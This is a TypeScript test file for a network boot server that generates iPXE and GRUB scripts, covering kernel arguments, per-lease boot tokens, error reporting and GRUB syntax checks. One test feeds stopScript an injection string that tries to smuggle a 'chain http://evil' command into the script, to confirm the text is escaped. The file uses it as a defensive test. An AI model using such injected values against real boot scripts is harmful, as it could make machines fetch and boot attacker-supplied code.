import { execFile } from 'node:child_process'
import { describe, expect, it } from 'vitest'
import type { Ipv4 } from '../../../config/values/ipv4.ts'
import type { ImageDigest } from '../../../config/values/node-id.ts'
import type { Manifest } from '../../../protocol/manifest.ts'
import { GRUB } from '../../../server/boot/dialect.ts'
import { firstScript } from '../../../server/boot/first-script.ts'
import { grubFirstScript } from '../../../server/boot/grub-script.ts'
import { type PrepareOptions, prepareMachine } from '../../../server/boot/prepare.ts'
import { stopScript } from '../../../server/boot/script.ts'
import { BootQuery } from '../../../server/http/boot-query.ts'

const digest = 'd'.repeat(64) as ImageDigest
const file = (name: string) => ({ name, sizeBytes: 10, sha256: 'a'.repeat(64) })
const manifest: Manifest = {
  format: 1,
  name: 'default',
  recipeDigest: 'b'.repeat(64),
  createdAt: '2026-01-01T00:00:00Z',
  files: { root: file('root.squashfs'), kernel: file('vmlinuz'), initrd: file('initrd.img') },
  kernelVersion: '6.12',
  kernelArgs: ['quiet'],
  ramNeedBytes: 700_000_000,
  packages: {},
}
const link = { address: '10.77.0.1' as Ipv4, prefixLength: 24 }
const options: PrepareOptions = {
  link,
  networks: [
    { cidr: link, gateway: undefined, dns: undefined },
    {
      cidr: { address: '10.80.0.0' as Ipv4, prefixLength: 16 },
      gateway: '10.80.0.1' as Ipv4,
      dns: '9.9.9.9' as Ipv4,
    },
  ],
  ports: { http: 7080, api: 7443, agent: 7444 },
  caFingerprint: 'c'.repeat(64),
  kernelArgs: ['console=ttyS0'],
  now: () => 1_800_000_000_500,
  leasedTo: () => undefined,
  image: async () => ({ kind: 'image', digest, manifest }),
  prepareBoot: async () => ({ bootId: 'b-1', token: 'secret-token', nodeName: 'node-1' }),
}
const query = BootQuery.parse({
  mac: '52-54-00-77-00-01',
  ip: '10.77.0.150',
  fw: 'bios',
  arch: 'x86_64',
  serial: '534e2031',
})
const remote = '10.77.0.99' as Ipv4

describe('the first script', () => {
  const script = firstScript('10.77.0.1' as Ipv4, 7080)

  it('is an iPXE script that Debian 12 reads: no byte order mark, `||` behind all that can fail', () => {
    expect(script.startsWith('#!ipxe\n')).toBe(true)
    for (const line of script
      .split('\n')
      .filter(text => /^(chain|dhcp|isset|iseq .* &&|cpuid|imgfetch|imgfree|ifclose|sanboot)\b/.test(text)))
      expect(line).toContain('||')
  })

  it('sends free text hexadecimal, because :uristring leaves & alone', () => {
    for (const name of ['serial', 'manufacturer', 'product']) expect(script).toContain(`\${${name}:hexraw}`)
  })
})

describe('the script for one machine', () => {
  it('hands over address, identity and image, image arguments before the administrator’s', async () => {
    const script = await prepareMachine(query, remote, options)
    const kernel = script.split('\n').find(line => line.startsWith('kernel ')) ?? ''
    const args = kernel.split(' ')
    expect(args.slice(0, 4)).toEqual([
      'kernel',
      `http://10.77.0.1:7080/images/${digest}/vmlinuz?mac=52-54-00-77-00-01`,
      'initrd=initrd.img',
      'boot=godwit',
    ])
    expect(args).toEqual(
      expect.arrayContaining([
        'BOOTIF=01-52-54-00-77-00-01',
        'godwit.ip=10.77.0.150/24',
        'godwit.token=secret-token',
        `godwit.ca=${'c'.repeat(64)}`,
        'godwit.ram=700000000',
        'godwit.size=10',
        'godwit.time=1800000000',
      ]),
    )
    expect(args.indexOf('quiet')).toBeLessThan(args.indexOf('console=ttyS0'))
    expect(kernel.length).toBeLessThan(1500)
  })

  it('takes the address the request came from when the machine names one of another network', async () => {
    const stranger = BootQuery.parse({ mac: '52-54-00-77-00-01', ip: '192.168.9.9', fw: 'uefi' })
    expect(await prepareMachine(stranger, remote, options)).toContain('godwit.ip=10.77.0.99/24')
  })

  it('gives a machine behind a relay agent the prefix and the way out of its own network', async () => {
    const script = await prepareMachine({ ...query, ip: undefined }, '10.80.7.9' as Ipv4, options)
    expect(script).toContain('godwit.ip=10.80.7.9/16 godwit.gw=10.80.0.1 godwit.dns=9.9.9.9')
    expect(script).toContain('kernel http://10.77.0.1:7080/')
  })

  it('gives a token to nobody but the machine that has the lease', async () => {
    const leased = { ...options, leasedTo: () => '10.77.0.150' as Ipv4 }
    expect(await prepareMachine(query, '10.77.0.66' as Ipv4, leased)).not.toContain('secret-token')
    expect(await prepareMachine(query, '10.77.0.150' as Ipv4, leased)).toContain('secret-token')
  })

  it('tells a 32-bit machine why it cannot boot, and mints no token for it', async () => {
    let minted = 0
    const prepareBoot: PrepareOptions['prepareBoot'] = machine => {
      minted += 1
      return options.prepareBoot(machine)
    }
    const script = await prepareMachine(
      BootQuery.parse({ mac: '52-54-00-77-00-01', fw: 'bios', arch: 'i386' }),
      remote,
      { ...options, prepareBoot },
    )
    expect(script).toContain('this machine has a 32-bit processor')
    expect(minted).toBe(0)
  })

  it('tells the machine when no image is there', async () => {
    const script = await prepareMachine(query, remote, {
      ...options,
      image: async () => ({ kind: 'none', reason: 'no image on channel "stable"' }),
    })
    expect(script).toContain('no image on channel')
    expect(script).not.toContain('kernel ')
  })
})

describe('what a script does when a step fails', () => {
  it('tells the server which step and why, and tries again', async () => {
    const script = await prepareMachine(query, remote, options)
    expect(script).toContain(
      'imgfetch --name report http://10.77.0.1:7080/v1/boot-error?mac=52-54-00-77-00-01&step=${step}&errno=${errno:hexraw} ||',
    )
    expect(script).toContain('chain --replace http://10.77.0.1:7080/boot.ipxe ||')
  })

  it.each([
    [
      'a BIOS starts its disk, else exits',
      undefined,
      ['iseq ${platform} pcbios && sanboot --no-describe --drive 0x80 ||'],
    ],
    ['exit leaves all to the firmware', 'exit', []],
    [
      'sanboot starts the disk on either firmware',
      'sanboot',
      [
        'iseq ${platform} efi && sanboot --no-describe --drive 0 ||',
        'iseq ${platform} pcbios && sanboot --no-describe --drive 0x80 ||',
      ],
    ],
  ] as const)('%s', async (_name, localBoot, lines) => {
    const script = await prepareMachine(query, remote, { ...options, localBoot: () => localBoot })
    expect(script.split('\n').filter(line => line.includes('sanboot'))).toEqual(lines)
    expect(script.trimEnd().endsWith('\nexit 1')).toBe(true)
  })
})

describe("GRUB's scripts", () => {
  it('boot the same kernel with the same arguments as iPXE', async () => {
    const script = await prepareMachine(query, remote, options, GRUB)
    expect(script).toContain(
      `if linux '(http,10.77.0.1:7080)/images/${digest}/vmlinuz?mac=52-54-00-77-00-01' 'boot=godwit'`,
    )
    expect(script).toContain("'godwit.token=secret-token'")
    expect(script).toContain(`if initrd '(http,10.77.0.1:7080)/images/${digest}/initrd.img?mac=`)
  })

  it('tell a 32-bit processor why it cannot boot', async () => {
    const script = await prepareMachine({ ...query, arch: 'i386' }, remote, options, GRUB)
    expect(script).toContain("echo 'godwit: this machine has a 32-bit processor")
    expect(script).not.toContain('linux')
  })

  it('are what GRUB itself accepts', async () => {
    const scripts = [
      grubFirstScript('10.77.0.1' as Ipv4, 7080),
      await prepareMachine(query, remote, options, GRUB),
      GRUB.stop('it\'s $broken; {here} | "there"'),
    ]
    for (const script of scripts) expect(await grubProblem(script)).toBe('')
  })
})

/** What `grub-script-check` of Debian's grub-common has to say against a script. */
function grubProblem(script: string): Promise<string> {
  return new Promise(resolve => {
    const child = execFile('grub-script-check', (error, _stdout, stderr) =>
      resolve(error === null ? '' : stderr || error.message),
    )
    child.stdin?.end(script)
  })
}

describe('stopScript', () => {
  it('cannot be broken out of by its text', () => {
    const script = stopScript('a\nchain http://evil || ${net0/mac} && x')
    expect(script.split('\n').filter(line => line.startsWith('chain'))).toEqual([])
    const shown = script.split('\n').filter(line => line.includes('evil'))
    expect(shown).toHaveLength(1)
    expect(shown[0]).not.toMatch(/[$|&]/)
  })
})

describe('BootQuery', () => {
  it.each([
    ['534e2031', 'SN 1'],
    ['00ff41', 'A'],
    ['zz', ''],
    ['5', ''],
    [undefined, ''],
  ])('serial %s reads %j', (serial, expected) => {
    expect(BootQuery.parse({ mac: '52-54-00-77-00-01', fw: 'bios', serial }).serial).toBe(expected)
  })

  it('ignores an address that is none', () => {
    expect(BootQuery.parse({ mac: '52-54-00-77-00-01', fw: 'bios', ip: '' }).ip).toBeUndefined()
  })
})
